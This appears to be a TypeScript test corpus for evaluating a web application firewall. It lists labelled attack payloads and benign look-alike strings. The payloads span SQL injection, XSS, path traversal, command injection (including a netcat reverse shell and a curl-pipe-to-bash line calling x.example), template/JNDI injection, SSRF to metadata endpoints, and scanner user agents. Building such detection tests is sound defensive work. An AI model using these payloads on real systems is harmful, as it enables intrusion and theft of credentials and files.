// A second held-out corpus, written at 20:25 after all tuning and run once as-is;
// its first-run figures are the ones published in docs/waf.md.
import type { Sample } from './waf-corpus.js';

const q = (family: Sample['family'], value: string, name = 'search'): Sample => ({ family, variant: 'holdout2', where: 'query', name, value });
const j = (family: Sample['family'], value: string, name = 'message'): Sample => ({ family, variant: 'holdout2', where: 'json', name, value });
const f = (family: Sample['family'], value: string, name = 'comment'): Sample => ({ family, variant: 'holdout2', where: 'form', name, value });

export function holdout2Attacks(): Sample[] {
  return [
    ...["admin' or '1'='1'#", "1' and substring(@@version,1,1)='5", "' or true--", "1 or 1 like 1", "1' GROUP BY 1,2,3--", "'; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--",
      "1 AND (SELECT COUNT(*) FROM sysobjects)>0", "1' AND 1=(SELECT 1 FROM pg_sleep(3))--", "' UNION SELECT @@version,NULL#", "-5 UNION SELECT table_name FROM information_schema.tables",
      "1)) AND ((1=1", "x' AND '1'='1", "1' || '1'='1", "0' XOR 1=1 XOR '0", "1'; SELECT pg_sleep(5);--", "') UNION SELECT 1,2--"].map((v) => q('sqli', v, 'id')),
    ...['<img src=1 onerror=alert(document.domain)>', '<svg><script>alert(1)</script></svg>', '<a href="javas&#99;ript:alert(1)">', '"><iframe src=javascript:alert(1)>', '<body onresize=alert(1)>',
      "'-alert(1)-'", '<input onfocus=alert(1) autofocus>', '<img src="x" onerror="&#97;lert(1)">', '<svg/onload=eval(atob("YWxlcnQoMSk="))>', 'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
      '<style>@import "javascript:alert(1)";</style>', '<object data=javascript:alert(1)>', '<a href=javascript&colon;alert(1)>x</a>', '<audio src=x onerror=alert(1)>'].map((v) => j('xss', v)),
    ...['../../../../etc/passwd%00', '..%2F..%2F..%2F..%2Fetc%2Fhosts', '%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini', '/proc/self/environ', '..\\\\..\\\\..\\\\boot.ini',
      '....//....//etc/shadow', '/var/log/nginx/access.log', '../../../home/user/.ssh/id_rsa', 'php://filter/read=convert.base64-encode/resource=../config.php', 'file:///c:/windows/win.ini'].map((v) => q('traversal', v, 'file')),
    ...['; cat /etc/shadow', '| whoami', '&& id', '`uname -a`', '$(cat /etc/passwd)', '; nc -e /bin/sh 10.1.1.1 9001', '| ping -c 5 10.0.0.1', '; curl http://x.example/s | bash',
      '&& type C:\\boot.ini', '| dir c:\\', '; python -c "import os;os.system(\'id\')"', '%0a/usr/bin/id', ';sleep${IFS}5'].map((v) => f('command', v, 'target')),
    ...['{{7*\'7\'}}', '${{ 6*6 }}', '{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen("id").read() }}', '<%= File.read("/etc/passwd") %>', '${T(java.lang.System).getenv()}',
      '${jndi:ldaps://x.example/a}', '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}', '${main:\\x}', '{{["id"]|filter("system")}}', '#{7*7}'].map((v) => j('template', v, 'name')),
    ...['<?php passthru("id"); ?>', 'a:1:{i:0;O:8:"Exploit":0:{}}', "require('child_process').spawn('sh')", '__proto__.polluted=1'].map((v) => q('code', v, 'data')),
    { family: 'code', variant: 'holdout2', where: 'query', name: 'a[__proto__][x]', value: '1' },
    ...['http://127.0.0.1:22/', 'http://[::]:80/', 'http://0x7f000001:8080/', 'http://169.254.169.254/computeMetadata/v1/', 'http://metadata/computeMetadata/v1/', 'gopher://127.0.0.1:11211/_stats',
      'http://2852039166/', 'http://localhost:9200/_cat/indices', 'file:///etc/hosts', 'http://0.0.0.0:6379/'].map((v) => q('ssrf', v, 'image_url')),
    ...['Mozilla/5.0 (compatible; Nuclei - Open-source project)', 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; Havij)', 'w3af.org'].map((v): Sample => ({ family: 'scanner', variant: 'holdout2', where: 'header', name: 'user-agent', value: v })),
  ];
}

export function holdout2Benign(): Sample[] {
  const texts = [
    "Patrick O'Malley", "L'Oréal Paris", "We're hiring: select candidates will be contacted", "The union of two sets", "Please don't drop the table, it's an antique",
    "SELECT your seat (A-F)", "Delete old photos?", "ORDER BY date is the default", "Joe's Bar & Grill", "R&D / Q&A", "5 > 3 and 2 < 4", "'quoted' and \"double quoted\"",
    "It's 10 o'clock", "I'm 5'11\"", "cd ../.. to go back", "Salary: $100k-$120k", "50%+ off", "Hello, World! :)", "C:\\Program Files\\App", "https://example.org/a?b=c&d=e",
    "#1 best seller", "@channel please review", "email me: a.b@c.io", "Price (USD): 9.99", "x^2 + y^2 = z^2", "tag:news OR tag:tech", "-filter +include", "{\"a\": 1}",
    "<p>paragraph</p>", "Use ${HOME}/bin in your PATH", "The cat; the dog.", "echo \"hello\"", "sleep tight", "ping pong", "set -e is useful in bash scripts", "rm -rf node_modules && npm i",
    "print('hello')", "SELECT COUNT(*) FROM orders — why so slow?", "Mr. & Mrs. Smith", "1 or 2 days",
  ];
  const out: Sample[] = [];
  for (const t of texts) { out.push(q('benign', t)); out.push(j('benign', t)); }
  for (const u of ['https://images.example.com/a.png', 'https://cdn.example.net/v1/file?id=5', 'https://s3.amazonaws.com/bucket/key.jpg']) out.push(q('benign', u, 'image_url'));
  for (const ua of ['Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36', 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)', 'Go-http-client/1.1'])
    out.push({ family: 'benign', variant: 'holdout2', where: 'header', name: 'user-agent', value: ua });
  return out;
}
